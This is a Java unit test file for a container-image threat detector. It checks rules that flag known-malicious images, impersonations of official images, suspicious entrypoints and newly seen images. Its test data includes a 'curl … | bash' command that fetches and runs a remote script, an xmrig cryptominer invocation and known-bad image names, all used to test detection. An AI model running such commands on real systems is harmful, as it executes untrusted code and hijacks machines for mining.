package io.firedamp.detectors.image;

import static io.firedamp.detectors.image.Images.DIGEST;
import static io.firedamp.detectors.image.Images.MORNING;
import static io.firedamp.detectors.image.Images.sighting;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.Finding;
import io.firedamp.detectors.PoolList;
import io.firedamp.detectors.indicators.ImageNames;
import io.firedamp.detectors.indicators.OfficialNames;
import io.firedamp.detectors.indicators.TraceFinder;
import io.firedamp.detectors.indicators.Traces;
import io.firedamp.schemas.avro.Severity;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ImageRulesTest {
  private static final Duration DAY = Duration.ofDays(1);
  private static final Instant LONG_AGO = MORNING.minus(Duration.ofDays(30));

  private final KnownBadRule knownBad = new KnownBadRule(ImageNames.knownBad(), DAY);
  private final ImpersonationRule impersonation =
      new ImpersonationRule(OfficialNames.bundled(), DAY);
  private final ImageConfigRule config = new ImageConfigRule(DAY);
  private final NewImageRule newImage =
      new NewImageRule(DAY, Duration.ofDays(7), Duration.ofDays(90), DAY);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "docker.io/docker123321/tomcat:latest",
        "mirror.example/hub/docker123321/cron:1",
        "docker.io/alpineos/dockerapi:latest"
      })
  void knowsMaliciousImages(String image) {
    assertThat(knownBad.check(sighting(image, MORNING)))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(50);
              assertThat(finding.slot()).isEqualTo(image);
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"docker.io/library/tomcat:9", "docker.io/alpineos/tools:1", "not an image"})
  void leavesUnlistedImagesAlone(String image) {
    assertThat(knownBad.check(sighting(image, MORNING))).isEmpty();
  }

  @Test
  void weighsAPullBelowARunAndACopyUnderAnotherNameBetween() {
    Sighting run = sighting("docker.io/docker123321/tomcat:1", MORNING);
    Sighting copy = sighting("registry.example/team/app:1", MORNING);

    assertThat(knownBad.check(run)).map(Finding::decibans).contains(50.0);
    assertThat(knownBad.check(Images.pulled("docker.io/docker123321/tomcat:1", MORNING)))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(33);
              assertThat(finding.traits()).containsExactly("KNOWN_BAD", "LISTED", "PULLED");
            });
    assertThat(knownBad.checkCopy(copy, "docker123321/*")).map(Finding::decibans).contains(36.0);
    assertThat(knownBad.checkCopy(run, "docker123321/*")).isEmpty();
  }

  @Test
  void saysLittleOfAnOfficialNameOnTheOrganisationsOwnHost() {
    assertThat(impersonation.check(sighting("registry.example/mirror/nginx:1", MORNING)))
        .map(Finding::decibans)
        .contains(4.0);
    assertThat(impersonation.check(Images.pulled("docker.io/evil/nginx:1", MORNING)))
        .map(Finding::decibans)
        .contains(6.0);
  }

  @Test
  void neverOpensAnIncidentForANameAlone() {
    List<String> honest =
        List.of("calico/node", "kindest/node", "someone/redis", "team/nginx-official", "x/mysql2");

    for (String name : honest) {
      assertThat(impersonation.check(sighting("docker.io/" + name + ":1", MORNING)).stream())
          .as(name)
          .allSatisfy(finding -> assertThat(finding.severity()).isEqualTo(Severity.LOW));
    }
    assertThat(impersonation.check(sighting("docker.io/calico/node:v3", MORNING))).isEmpty();
    assertThat(impersonation.check(sighting("quay.io/calico/node:v3", MORNING))).isEmpty();
    assertThat(impersonation.check(sighting("docker.io/kindest/node:v1", MORNING))).isEmpty();
  }

  @Test
  void tellsAnImpostorFromTheOfficialImageAndFromAVendor() {
    assertThat(impersonation.check(sighting("docker.io/evil/tomcat11:latest", MORNING)))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(10);
              assertThat(finding.title()).contains("poses as official tomcat");
            });
    assertThat(impersonation.check(sighting("docker.io/library/tomcat:9", MORNING))).isEmpty();
    assertThat(impersonation.check(sighting("docker.io/bitnami/mysql:8", MORNING))).isEmpty();
  }

  @Test
  void weighsAConfigurationByWhatItHolds() {
    assertThat(judged(Images.MINER)).map(Finding::decibans).contains(54.0);
    assertThat(judged(List.of("xmrig", "--donate-level", "1")))
        .map(Finding::decibans)
        .contains(44.0);
    assertThat(judged(List.of("sh", "-c", "curl -s http://203.0.113.9/a.sh | bash")))
        .map(Finding::decibans)
        .contains(16.0);
    assertThat(judged(List.of("app", "--pay", Images.WALLET, "--to", "198.51.100.9:3333")))
        .map(Finding::decibans)
        .contains(34.0);
    assertThat(judged(List.of("catalina.sh", "run"))).isEmpty();
  }

  @Test
  void namesTheWalletAndThePoolAsIndicators() {
    assertThat(judged(Images.MINER).orElseThrow().indicators())
        .extracting(indicator -> indicator.getType())
        .containsExactlyInAnyOrder("pool", "wallet");
  }

  @Test
  void callsAnImageNewForADayAfterItWasFirstSeen() {
    assertThat(started(MORNING.minus(DAY))).map(Finding::decibans).contains(7.0);
    assertThat(started(MORNING.minus(DAY).minusMillis(1))).isEmpty();
  }

  @Test
  void callsAnImageKnownWhenOneOfItsDigestsIs() {
    Sighting start = sighting("docker.io/acme/app:1", MORNING);
    List<FirstSeen> names =
        List.of(FirstSeen.at(MORNING), FirstSeen.at(MORNING.minus(DAY.multipliedBy(9))));

    assertThat(newImage.check(start, names, LONG_AGO)).isEmpty();
  }

  @Test
  void doesNotBelieveASingleDateFarBack() {
    Instant yearAgo = MORNING.minus(Duration.ofDays(365));

    assertThat(started(yearAgo)).isPresent();
    assertThat(started(yearAgo, MORNING)).isPresent();
    assertThat(started(yearAgo, MORNING.minus(Duration.ofDays(300)))).isEmpty();
    assertThat(started(yearAgo, MORNING.minus(Duration.ofDays(3)))).isEmpty();
  }

  @Test
  void saysLittleWhileTheClusterItselfIsNew() {
    Sighting start = sighting("docker.io/acme/app:1", MORNING);

    assertThat(newImage.check(start, List.of(), MORNING.minus(Duration.ofDays(6))))
        .map(Finding::decibans)
        .contains(3.0);
  }

  private Optional<Finding> started(Instant... seen) {
    FirstSeen known = FirstSeen.at(seen[0]);
    for (Instant time : seen) {
      known = known.and(time);
    }
    return newImage.check(sighting("docker.io/acme/app:1", MORNING), List.of(known), LONG_AGO);
  }

  private Optional<Finding> judged(List<String> entrypoint) {
    Traces traces = new TraceFinder(PoolList.bundled()).find(entrypoint, List.of(), List.of());
    return config.check(DIGEST, traces, sighting("docker.io/acme/app:1", MORNING));
  }
}
